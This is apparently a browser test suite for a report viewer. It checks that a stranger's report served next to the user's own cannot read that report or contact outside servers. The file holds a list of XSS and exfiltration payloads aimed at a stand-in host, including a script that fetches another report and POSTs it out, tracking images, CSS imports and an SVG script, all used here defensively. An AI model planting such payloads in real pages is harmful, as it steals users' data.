"""`cbtrun view` of my run beside a stranger's, in a real browser: theirs cannot read mine, nor send anything anywhere."""

from __future__ import annotations

import os
import shutil
import threading
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
import yaml

from cbtrun.plugins.report.run_server import make_server
from cbtrun.plugins.report.write import write_all
from cbtrun.results.records import results_bytes
from tests.helpers.report_studies import made_up_study

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.browser

CHROMIUM = os.environ.get("CBTRUN_CHROMIUM") or shutil.which("chromium") or "/usr/bin/chromium"
ATTACKS = """
<script>fetch("/1/report.html").then((r) => r.text()).then((t) => fetch("OUT/a", {method: "POST", body: t}))</script>
<script>new Image().src = "OUT/b"; location = "OUT/c?" + document.title</script>
<form id="f" method="post" action="OUT/d"><input name="x" value="y"></form><script>f.submit()</script>
<img src="OUT/e"><img src="x" onerror="location = 'OUT/f'"><iframe src="OUT/g"></iframe><object data="OUT/h"></object>
<link rel="stylesheet" href="OUT/i"><link rel="prefetch" href="OUT/j"><link rel="preconnect" href="OUT/k">
<style>@import "OUT/l"; body { background: url(OUT/m); } @font-face { font-family: x; src: url(OUT/n); } p { font-family: x; }</style>
<meta http-equiv="refresh" content="0;url=OUT/o"><svg><script>location = "OUT/p"</script></svg><video src="OUT/q" autoplay></video>
<script src="/2/report_transcripts/0000.js"></script><a ping="OUT/r" href="javascript:location='OUT/s'" id="a">x</a>
<p>theirs</p>
"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    playwright = pytest.importorskip("playwright.sync_api", reason="needs the extra `browser`")
    if not Path(CHROMIUM).exists():
        pytest.skip("needs chromium (apt-get install chromium, or CBTRUN_CHROMIUM)")
    with playwright.sync_playwright() as running:
        opened = running.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
        yield opened
        opened.close()


@pytest.fixture
def outside() -> Iterator[tuple[str, list[str]]]:
    """The address of a server that is not ours, and what it was asked."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the name that http.server calls

        def log_message(self, *_: object) -> None:
            """Nothing is logged."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


def run_folder(folder: Path, beside: bool = False) -> Path:
    """A finished run with a report; beside: its transcripts stand beside the page."""
    given = made_up_study(4, figures=())
    given = replace(given, options=replace(given.options, max_page_sessions=1)) if beside else given
    folder.mkdir()
    write_all(given, folder)
    assert (folder / "report_transcripts").exists() == beside
    (folder / "results.json").write_bytes(results_bytes(given.results))
    (folder / "study.lock.yaml").write_text(yaml.safe_dump({"cbtrun": "0.1.0", "resolved": dict(given.study)}))
    return folder


@pytest.fixture(scope="module")
def mine(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """Two runs of mine, one with its transcripts beside its page."""
    root = tmp_path_factory.mktemp("runs")
    return run_folder(root / "mine"), run_folder(root / "large", beside=True)


@pytest.fixture
def viewed(mine: tuple[Path, Path], tmp_path: Path, browser: Browser) -> Iterator[tuple[str, Path, Page]]:
    """Address of a server of mine and theirs, the folder of theirs, and a page."""
    theirs = Path(shutil.copytree(mine[0], tmp_path / "theirs"))
    server = make_server([mine[0], theirs, mine[1]])
    threading.Thread(target=server.serve_forever, daemon=True).start()
    page = browser.new_page()
    yield f"http://127.0.0.1:{server.server_port}", theirs, page
    page.context.close()
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize("whole", [True, False])
def test_a_strangers_report_asks_nothing_of_anybody(
    viewed: tuple[str, Path, Page], outside: tuple[str, list[str]], whole: bool
) -> None:
    address, theirs, page = viewed
    attacks = ATTACKS.replace("OUT", outside[0])
    report = theirs / "report.html"
    report.write_text(
        report.read_text().replace("<main", attacks + "<main", 1) if whole else f"<!doctype html>{attacks}"
    )
    page.goto(f"{address}/2/report.html")
    page.wait_for_timeout(800)
    assert page.url == f"{address}/2/report.html"
    assert "theirs" in page.inner_text("body")
    assert outside[1] == []


@pytest.mark.parametrize("name", ["figures/x.svg", "tables/x.html", "report_transcripts/0000.js"])
def test_no_other_file_of_theirs_does_either(
    viewed: tuple[str, Path, Page], outside: tuple[str, list[str]], name: str
) -> None:
    address, theirs, page = viewed
    (theirs / name).parent.mkdir(exist_ok=True)
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><script>location = "{outside[0]}/p"</script><image href="{outside[0]}/q"/></svg>'
    (theirs / name).write_text(svg if name.endswith("svg") else ATTACKS.replace("OUT", outside[0]))
    with suppress(Exception):  # Chromium calls a page that is not there a failure
        page.goto(f"{address}/2/{name}")
    page.wait_for_timeout(500)
    assert outside[1] == []


@pytest.mark.parametrize("number", [1, 3])
def test_our_own_report_works_in_the_viewer(viewed: tuple[str, Path, Page], number: int) -> None:
    address, _, page = viewed
    complaints: list[str] = []
    page.on("console", lambda message: complaints.append(message.text))
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.goto(f"{address}/")
    page.click(f'a[href="/{number}/report.html"]')
    page.click("#session-list tbody tr:nth-child(2) a")
    page.wait_for_selector("#viewer[open] .turn")
    assert page.locator("#viewer .item").count() == 11
    page.keyboard.press("Escape")
    page.wait_for_selector("#viewer:not([open])", state="attached")
    assert complaints == []
